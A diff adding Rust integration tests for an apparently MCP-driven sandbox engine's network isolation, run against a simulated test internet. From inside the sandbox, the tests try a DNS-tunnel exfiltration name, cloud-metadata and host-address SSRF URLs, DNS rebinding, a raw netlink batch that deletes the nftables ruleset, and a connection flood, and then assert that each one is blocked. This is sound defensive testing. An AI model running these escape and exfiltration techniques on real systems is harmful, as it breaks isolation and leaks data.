@@ -1,0 +1,502 @@
+//! Sandbox networking against a test internet (`testnet`): real DNS, HTTP, HTTPS and TCP on
+//! addresses of a namespace the test makes, through the real engine and the real MCP server.
+//! The engine asks the test internet's resolver and the operator opens only its server's
+//! address (`--egress-allow`), so the host end of the veth stays "this host's own address".
+
+use serde_json::{Value, json};
+
+use crate::common::*;
+use crate::require_sandboxes;
+use crate::testnet::TestNet;
+
+/// An engine whose sandboxes resolve through `net` and may reach its server.
+async fn engine_for(
+    net: &TestNet,
+    adjust: impl FnOnce(&mut sandbox_mcp::engine::config::EngineConfig),
+) -> TestEngine {
+    let dns = net.dns;
+    let allow = format!("{}/32", net.net_ip);
+    TestEngine::start_with(move |c| {
+        c.network.dns_upstream = vec![dns];
+        c.network.egress_allow = vec![allow];
+        adjust(c);
+    })
+    .await
+}
+
+/// Runs Python in the sandbox; returns stdout (the script may fail: its output says how).
+async fn py(client: &McpClient, id: &str, code: &str) -> String {
+    let r = ok(
+        client,
+        "sandbox_exec",
+        json!({"sandbox_id": id, "command": format!("python3 - <<'EOF'\n{code}\nEOF"), "timeout_ms": 60000}),
+    )
+    .await;
+    format!(
+        "{}{}",
+        r["stdout"].as_str().unwrap_or(""),
+        r["stderr"].as_str().unwrap_or("")
+    )
+}
+
+/// A fetch from inside the sandbox: `STATUS BODY` or `ERROR why`.
+const FETCH: &str = r#"
+import sys, urllib.request, urllib.error
+def fetch(url, host=None):
+    req = urllib.request.Request(url, headers={"Host": host} if host else {})
+    try:
+        with urllib.request.urlopen(req, timeout=10) as r:
+            return f"{r.status} {r.read().decode(errors='replace')}"
+    except urllib.error.HTTPError as e:
+        return f"{e.code} {e.read().decode(errors='replace')}"
+    except Exception as e:
+        return f"ERROR {e}"
+"#;
+
+async fn log(client: &McpClient, id: &str, extra: Value) -> Vec<Value> {
+    let mut args = json!({"sandbox_id": id, "limit": 200});
+    args.as_object_mut()
+        .unwrap()
+        .extend(extra.as_object().unwrap().clone());
+    let page = ok(client, "sandbox_network_log", args).await;
+    page["entries"].as_array().unwrap().clone()
+}
+
+#[tokio::test]
+async fn open_egress_reaches_names_over_http_and_https_and_logs_the_bytes() {
+    require_sandboxes!();
+    let net = crate::require_testnet!();
+    let engine = engine_for(&net, |_| {}).await;
+    let client = engine.mcp().await;
+    let id = create(&client).await;
+    let info = ok(&client, "sandbox_info", json!({"sandbox_id": id})).await;
+    assert_eq!(
+        info["network"],
+        json!({"allow_out": [], "deny_out": [], "default": "open", "mode": "filtered"})
+    );
+    ok(
+        &client,
+        "sandbox_files_write",
+        json!({"sandbox_id": id, "path": "/root/ca.pem", "content": std::fs::read_to_string(net.ca_pem()).unwrap()}),
+    )
+    .await;
+    let out = py(
+        &client,
+        &id,
+        &format!(
+            "{FETCH}\nprint(fetch('http://pypi.test/'))\nprint(len(fetch('http://api.example.test/bytes/100000')))"
+        ),
+    )
+    .await;
+    assert!(out.contains("200 hello from pypi.test"), "{out}");
+    assert!(
+        out.contains("100004"),
+        "status, space and 100 000 bytes: {out}"
+    );
+    let https = sh(
+        &client,
+        &id,
+        "curl -sS --cacert /root/ca.pem https://other.test/ && echo",
+    )
+    .await;
+    assert_eq!(https, "hello from other.test\n");
+    let entries = log(&client, &id, json!({})).await;
+    let find = |host: &str, protocol: &str| {
+        entries
+            .iter()
+            .find(|e| e["host"] == host && e["protocol"] == protocol)
+            .unwrap_or_else(|| panic!("no {protocol} entry for {host}: {entries:#?}"))
+            .clone()
+    };
+    let big = find("api.example.test", "http");
+    assert_eq!(big["verdict"], "allowed");
+    assert_eq!(big["rule"], "default open");
+    assert_eq!(big["port"], 80);
+    assert_eq!(big["address"], net.net_ip.to_string());
+    assert!(big["bytes_received"].as_u64().unwrap() > 100_000, "{big}");
+    assert!(big["bytes_sent"].as_u64().unwrap() > 20, "{big}");
+    let tls = find("other.test", "tls");
+    assert_eq!(
+        (tls["verdict"].clone(), tls["port"].clone()),
+        (json!("allowed"), json!(443))
+    );
+    assert_eq!(find("pypi.test", "dns")["verdict"], "allowed");
+}
+
+#[tokio::test]
+async fn an_allowlist_admits_its_names_refuses_the_rest_with_a_reason_and_changes_at_runtime() {
+    require_sandboxes!();
+    let net = crate::require_testnet!();
+    let engine = engine_for(&net, |_| {}).await;
+    let client = engine.mcp().await;
+    let created = ok(
+        &client,
+        "sandbox_create",
+        json!({"network": {"allow_out": ["pypi.test"], "deny_out": ["0.0.0.0/0"]}}),
+    )
+    .await;
+    let id = created["id"].as_str().unwrap().to_string();
+    assert_eq!(created["network"]["allow_out"], json!(["pypi.test"]));
+    let ip = net.net_ip;
+    let script = format!(
+        "{FETCH}\nprint('A', fetch('http://pypi.test/'))\nprint('B', fetch('http://other.test/'))\nprint('C', fetch('http://{ip}/', host='other.test'))"
+    );
+    let out = py(&client, &id, &script).await;
+    assert!(out.contains("A 200 hello from pypi.test"), "{out}");
+    // The name outside the allowlist does not even resolve.
+    assert!(out.contains("B ERROR"), "{out}");
+    // By address, the HTTP client is told which rule refused it and how to change it.
+    assert!(out.contains("C 403"), "{out}");
+    assert!(
+        out.contains("deny_out 0.0.0.0/0") && out.contains("sandbox_update"),
+        "{out}"
+    );
+
+    // DNS cannot carry data out: a refused name never reaches any resolver.
+    let tunnel = exec(&client, &id, "getent hosts c2VjcmV0LWRhdGE.tunnel.test").await;
+    assert_ne!(tunnel["exit_code"], 0, "{tunnel}");
+    assert!(
+        !net.dns_queries()
+            .iter()
+            .any(|q| q.contains("c2vjcmv0lwrhdge")),
+        "the tunnelled name reached the upstream resolver: {:?}",
+        net.dns_queries()
+    );
+
+    let blocked = log(&client, &id, json!({"verdict": "blocked"})).await;
+    assert!(
+        blocked
+            .iter()
+            .any(|e| e["protocol"] == "http" && e["host"] == "other.test"),
+        "{blocked:#?}"
+    );
+    assert!(blocked.iter().all(|e| e["verdict"] == "blocked"));
+    assert!(
+        blocked
+            .iter()
+            .any(|e| e["protocol"] == "dns" && e["host"] == "c2vjcmv0lwrhdge.tunnel.test"),
+        "{blocked:#?}"
+    );
+
+    // A changed policy applies to the next connection, without a restart.
+    let updated = ok(
+        &client,
+        "sandbox_update",
+        json!({"sandbox_id": id, "network": {"allow_out": ["pypi.test", "*.test"], "deny_out": ["0.0.0.0/0"]}}),
+    )
+    .await;
+    assert_eq!(
+        updated["network"]["allow_out"],
+        json!(["pypi.test", "*.test"])
+    );
+    let out = py(
+        &client,
+        &id,
+        &format!("{FETCH}\nprint('B', fetch('http://other.test/'))"),
+    )
+    .await;
+    assert!(out.contains("B 200 hello from other.test"), "{out}");
+    // The rules survive an engine restart with the sandbox.
+    let data = engine.stop().await;
+    let config = {
+        let mut c = TestEngine::config_for(data.path());
+        c.network.dns_upstream = vec![net.dns];
+        c.network.egress_allow = vec![format!("{}/32", net.net_ip)];
+        c
+    };
+    let engine = TestEngine::start_on(data, config).await;
+    let client = engine.mcp().await;
+    let info = ok(&client, "sandbox_info", json!({"sandbox_id": id})).await;
+    assert_eq!(info["network"]["allow_out"], json!(["pypi.test", "*.test"]));
+    let out = py(
+        &client,
+        &id,
+        &format!("{FETCH}\nprint('B', fetch('http://other.test/'))"),
+    )
+    .await;
+    assert!(
+        out.contains("B 200 hello from other.test"),
+        "after a restart: {out}"
+    );
+}
+
+#[tokio::test]
+async fn pip_installs_a_package_by_name_from_the_test_index() {
+    require_sandboxes!();
+    let net = crate::require_testnet!();
+    let engine = engine_for(&net, |_| {}).await;
+    let client = engine.mcp().await;
+    let id = ok(
+        &client,
+        "sandbox_create",
+        json!({"network": {"allow_out": ["pypi.test"], "deny_out": ["0.0.0.0/0"]}}),
+    )
+    .await["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let r = ok(
+        &client,
+        "sandbox_exec",
+        json!({"sandbox_id": id, "timeout_ms": 120000, "command":
+            "python3 -m pip install --break-system-packages --no-cache-dir --index-url http://pypi.test/simple/ --trusted-host pypi.test sandboxtestpkg && python3 -c 'import sandboxtestpkg; print(sandboxtestpkg.VALUE)'"}),
+    )
+    .await;
+    assert_eq!(r["exit_code"], 0, "{r}");
+    assert!(r["stdout"].as_str().unwrap().ends_with("42\n"), "{r}");
+}
+
+#[tokio::test]
+async fn forbidden_destinations_stay_unreachable_whatever_the_rules() {
+    require_sandboxes!();
+    let net = crate::require_testnet!();
+    let engine = engine_for(&net, |_| {}).await;
+    let client = engine.mcp().await;
+    // Even a sandbox that allows everything by name and address.
+    let id = ok(
+        &client,
+        "sandbox_create",
+        json!({"network": {"allow_out": ["*.test", "0.0.0.0/0"]}}),
+    )
+    .await["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let host = net.host_ip;
+    let engine_port = engine.url.rsplit(':').next().unwrap().to_string();
+    let out = py(
+        &client,
+        &id,
+        &format!(
+            r#"{FETCH}
+import socket
+for name in ("rebind.test", "private.test", "metadata.test"):
+    try:
+        print(name, socket.gethostbyname(name))
+    except OSError as e:
+        print(name, "unresolved")
+for url in ("http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "http://{host}/", "http://127.0.0.2:{engine_port}/v1/health"):
+    print(url, fetch(url)[:3])
+"#
+        ),
+    )
+    .await;
+    for name in ["rebind.test", "private.test", "metadata.test"] {
+        assert!(out.contains(&format!("{name} unresolved")), "{out}");
+    }
+    assert!(
+        out.contains("169.254.169.254/latest/meta-data/ 403"),
+        "{out}"
+    );
+    assert!(out.contains("http://10.0.0.1/ 403"), "{out}");
+    assert!(
+        out.contains(&format!("http://{host}/ 403")),
+        "the host's own address: {out}"
+    );
+    assert!(!out.contains("health 200"), "{out}");
+    let blocked = log(&client, &id, json!({"verdict": "blocked"})).await;
+    let rules: Vec<&str> = blocked.iter().filter_map(|e| e["rule"].as_str()).collect();
+    assert!(
+        rules.iter().any(|r| r.contains("this host's own address")),
+        "{rules:?}"
+    );
+    assert!(
+        rules.iter().any(|r| r.contains("DNS rebinding")),
+        "{rules:?}"
+    );
+    assert!(
+        rules.iter().any(|r| r.contains("169.254.0.0/16")),
+        "{rules:?}"
+    );
+}
+
+#[tokio::test]
+async fn root_in_the_sandbox_cannot_change_its_network() {
+    require_sandboxes!();
+    let net = crate::require_testnet!();
+    let engine = engine_for(&net, |_| {}).await;
+    let client = engine.mcp().await;
+    let id = ok(
+        &client,
+        "sandbox_create",
+        json!({"network": {"allow_out": ["pypi.test"], "deny_out": ["0.0.0.0/0"]}}),
+    )
+    .await["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let ip = net.net_ip;
+    let out = py(
+        &client,
+        &id,
+        &format!(
+            r#"{FETCH}
+import socket, struct, subprocess
+def run(cmd):
+    r = subprocess.run(cmd, shell=True, capture_output=True, text=True)
+    print(cmd, "->", r.returncode)
+run("ip route add 198.51.100.0/24 dev lo")
+run("ip link add dummy0 type dummy")
+run("ip addr add 10.9.9.9/32 dev lo")
+run("ip link set lo down")
+# `nft flush ruleset`, spoken directly: a netfilter batch deleting the steering table.
+def nlmsg(kind, flags, body, seq):
+    return struct.pack("=IHHII", 16 + len(body), kind, flags, seq, 0) + body
+name = b"sandbox\0"
+attr = struct.pack("=HH", 4 + len(name), 1) + name + b"\0" * (-len(name) % 4)
+batch = (nlmsg(0x10, 1, struct.pack("=BBH", 0, 0, socket.htons(10)), 1)
+         + nlmsg((10 << 8) | 2, 1 | 4, struct.pack("=BBH", 2, 0, 0) + attr, 2)
+         + nlmsg(0x11, 1, struct.pack("=BBH", 0, 0, socket.htons(10)), 3))
+try:
+    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
+    s.send(batch)
+    reply = s.recv(4096)
+    code = struct.unpack("=i", reply[16:20])[0]
+    print("nft delete table ->", code)
+except OSError as e:
+    print("nft delete table -> refused", e.errno)
+for kind in (socket.SOCK_RAW,):
+    try:
+        socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); print("raw socket opened")
+    except OSError as e:
+        print("raw socket refused", e.errno)
+try:
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(b"x", ("{ip}", 9999)); print("udp sent")
+except OSError as e:
+    print("udp refused", e.errno)
+print("after", fetch("http://pypi.test/")[:3], fetch("http://{ip}/", host="other.test")[:3])
+"#
+        ),
+    )
+    .await;
+    for cmd in [
+        "ip route add 198.51.100.0/24 dev lo",
+        "ip link add dummy0 type dummy",
+        "ip addr add 10.9.9.9/32 dev lo",
+        "ip link set lo down",
+    ] {
+        assert!(out.contains(&format!("{cmd} ->")), "{out}");
+        assert!(
+            !out.contains(&format!("{cmd} -> 0")),
+            "`{cmd}` succeeded: {out}"
+        );
+    }
+    assert!(!out.contains("nft delete table -> 0\n"), "{out}");
+    assert!(out.contains("raw socket refused"), "{out}");
+    assert!(
+        out.contains("udp refused 1"),
+        "other UDP fails at once with EPERM: {out}"
+    );
+    // The rules still hold.
+    assert!(out.contains("after 200 403"), "{out}");
+}
+
+#[tokio::test]
+async fn bad_rules_are_refused_with_what_to_write() {
+    require_sandboxes!();
+    let engine = TestEngine::start().await;
+    let client = engine.mcp().await;
+    let e = err(
+        &client,
+        "sandbox_create",
+        json!({"network": {"allow_out": ["not a domain!"]}}),
+    )
+    .await;
+    assert!(
+        e.contains("not a domain!") && e.contains("*.github.com"),
+        "{e}"
+    );
+    let e = err(
+        &client,
+        "sandbox_create",
+        json!({"network": {"deny_out": ["example.com"]}}),
+    )
+    .await;
+    assert!(e.contains("not a CIDR"), "{e}");
+    // 10 000 rules: the schema caps the list before anything is sent.
+    let many: Vec<String> = (0..10_000).map(|i| format!("h{i}.example.com")).collect();
+    let e = err(
+        &client,
+        "sandbox_create",
+        json!({"network": {"allow_out": many}}),
+    )
+    .await;
+    assert!(e.contains("256"), "{e}");
+    // And the engine itself, for API clients: 300 rules split over both lists.
+    let resp = engine
+        .http()
+        .post(format!("{}/v1/sandboxes", engine.url))
+        .header("authorization", format!("Bearer {KEY}"))
+        .json(&json!({"network": {
+            "allow_out": (0..150).map(|i| format!("h{i}.example.com")).collect::<Vec<_>>(),
+            "deny_out": (0..150).map(|i| format!("10.{i}.0.0/16")).collect::<Vec<_>>()}}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status().as_u16(), 400);
+    let body: Value = resp.json().await.unwrap();
+    assert!(
+        body["message"].as_str().unwrap().contains("at most 256"),
+        "{body}"
+    );
+    // An update with nothing in it says what it needs.
+    let id = create(&client).await;
+    let e = err(&client, "sandbox_update", json!({"sandbox_id": id})).await;
+    assert!(e.contains("metadata") && e.contains("network"), "{e}");
+}
+
+#[tokio::test]
+async fn a_connection_flood_hits_the_cap_and_the_engine_stays_responsive() {
+    require_sandboxes!();
+    let net = crate::require_testnet!();
+    let engine = engine_for(&net, |c| c.network.max_connections = 50).await;
+    let client = engine.mcp().await;
+    let id = create(&client).await;
+    let ip = net.net_ip;
+    let out = py(
+        &client,
+        &id,
+        &format!(
+            r#"
+import socket, resource
+resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
+held, ok = [], 0
+for i in range(400):
+    try:
+        s = socket.create_connection(("{ip}", 7), timeout=5)
+        held.append(s)
+    except OSError:
+        pass
+for s in held:
+    try:
+        s.settimeout(3)
+        s.sendall(b"ping")
+        if s.recv(4) == b"ping":
+            ok += 1
+    except OSError:
+        pass
+print("echoed", ok)
+"#
+        ),
+    )
+    .await;
+    let echoed: usize = out
+        .split_whitespace()
+        .last()
+        .and_then(|n| n.parse().ok())
+        .unwrap_or_else(|| panic!("{out}"));
+    assert!(
+        echoed > 0 && echoed <= 50,
+        "at most the cap of 50 relayed: {out}"
+    );
+    // The engine answered throughout, and says why the rest were cut.
+    ok(&client, "sandbox_info", json!({"sandbox_id": id})).await;
+    let blocked = log(&client, &id, json!({"verdict": "blocked"})).await;
+    assert!(
+        blocked
+            .iter()
+            .any(|e| e["rule"].as_str().unwrap().contains("connection cap")),
+        "{blocked:#?}"
+    );
+}
